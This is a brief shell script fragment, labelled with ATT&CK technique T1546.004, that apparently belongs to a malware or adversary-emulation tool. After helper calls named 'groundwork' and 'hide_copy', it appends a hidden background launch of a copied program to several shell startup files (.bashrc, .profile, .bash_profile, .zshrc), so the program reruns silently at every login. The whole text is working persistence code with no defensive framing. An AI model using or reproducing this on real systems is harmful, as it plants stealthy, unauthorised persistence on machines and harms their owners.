# T1546.004 by shell commands.
groundwork
hide_copy
for f in .bashrc .profile .bash_profile .zshrc; do echo "(nohup $HOME/$copy >/dev/null 2>&1 &)" >> "$f"; done
report
